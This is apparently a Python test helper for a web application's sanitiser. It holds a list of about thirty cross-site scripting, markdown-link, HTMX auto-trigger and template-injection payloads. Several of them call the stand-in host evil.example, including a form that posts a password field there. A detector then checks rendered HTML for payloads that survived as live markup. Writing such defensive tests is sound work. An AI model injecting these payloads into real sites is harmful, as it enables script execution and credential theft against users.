"""Attacks on the pages through what people type, and how to tell from a page that one has worked."""

from __future__ import annotations

from urllib.parse import urlsplit

from selectolax.lexbor import LexborHTMLParser as HTMLParser

#: Stands in every payload, so that whatever becomes of one can be found again.
MARK = "xq7z"
PAYLOADS = (
    f"<script>{MARK}()</script>",
    f'"><script src=//evil.example/{MARK}.js></script>',
    f"'><img src=x onerror={MARK}()>",
    f"<img src=https://evil.example/{MARK}.png>",
    f"<svg/onload={MARK}()>",
    f"<svg><animate onbegin={MARK}() attributeName=x></svg>",
    f"<a href='javascript:{MARK}()'>tautan</a>",
    f"[tautan](javascript:{MARK}())",
    f"[tautan](JaVaScRiPt&#58;{MARK}())",
    f"[tautan](data:text/html;base64,{MARK})",
    f"[tautan](vbscript:{MARK})",
    f"![gambar](https://evil.example/{MARK}.gif)",
    f"<{'javascript'}:{MARK}>",
    f'[a](https://contoh.example/{MARK}" onmouseover="{MARK}())',
    f'<div hx-get="/akun/hapus" hx-trigger="load">{MARK}</div>',
    f'<a data-hx-post="/keluar" data-hx-trigger="load">{MARK}</a>',
    f"<iframe srcdoc='<script>{MARK}()</script>'></iframe>",
    f"<form action=//evil.example/{MARK}><input name=password></form>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
    f"<base href=//evil.example/{MARK}/>",
    f"<link rel=stylesheet href=//evil.example/{MARK}.css>",
    f"<style>@import '//evil.example/{MARK}.css'</style>",
    f"<p style='background:url(//evil.example/{MARK})'>gaya</p>",
    f"</textarea></title></script><script>{MARK}()</script>",
    f"<!--><script>{MARK}()</script>-->",
    f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    f"{MARK}{{{{7*7}}}}${{7*7}}#{{7*7}}<%= 7*7 %>",
    f"%s%n{{0}}{{0.__class__}}{MARK}",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}()>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}()>",
    f"| a | b |\n|---|---|\n| <b onclick={MARK}()>x</b> | y |",
    f"```{MARK}\n</code></pre><script>{MARK}()</script>\n```",
)
#: Short ones, for lines with little room.
SHORT = (f'"><svg onload={MARK}()>', f"<script>{MARK}()</script>", f"'onfocus={MARK}() x='", f"{MARK}{{{{7*7}}}}")
#: All at once, for fields with room.
EVERYTHING = "\n\n".join(PAYLOADS)

_NEVER = "iframe, object, embed, base, frame, frameset, applet, portal, math, style, noscript, animate, foreignObject"
_ADDRESSES = ("href", "src", "action", "formaction", "srcset", "poster", "data", "ping", "background", "xlink:href")
_GOOD_SCHEMES = {"", "http", "https", "mailto", "tel"}


def dangers(html: str) -> list[str]:
    """What on a page a payload has brought about; empty if all of them are only words."""
    page = HTMLParser(html)
    found = [f"<{node.tag}>" for node in page.css(_NEVER)]
    found += [
        f"script {node.attributes}" for node in page.css("script") if not _our_script(node.attributes, node.text())
    ]
    found += [f"meta {node.attributes}" for node in page.css("meta[http-equiv]")]
    for node in page.css("*"):
        for name, value in node.attributes.items():
            found += _dangers_of(node.tag or "", name.lower(), value or "")
    if f"{MARK}49" in html:
        found.append("a template has run")
    return found


def _dangers_of(tag: str, name: str, value: str) -> list[str]:
    wrong = name.startswith("on") or name in {"style", "srcdoc"} or MARK in name or MARK in tag
    wrong = wrong or (name.removeprefix("data-").startswith("hx-") and (MARK in value or value == "/akun/hapus"))
    if name in _ADDRESSES:
        try:
            scheme = urlsplit("".join(value.split())).scheme.lower()
        except ValueError:
            scheme = "unreadable"
        wrong = wrong or scheme not in _GOOD_SCHEMES or (tag != "a" and "evil.example" in value)
    return [f"<{tag} {name}={value[:80]!r}>"] if wrong else []


def _our_script(attributes: dict[str, str | None], words: str) -> bool:
    return (attributes.get("src") or "").startswith("/static/app.") and not words.strip()
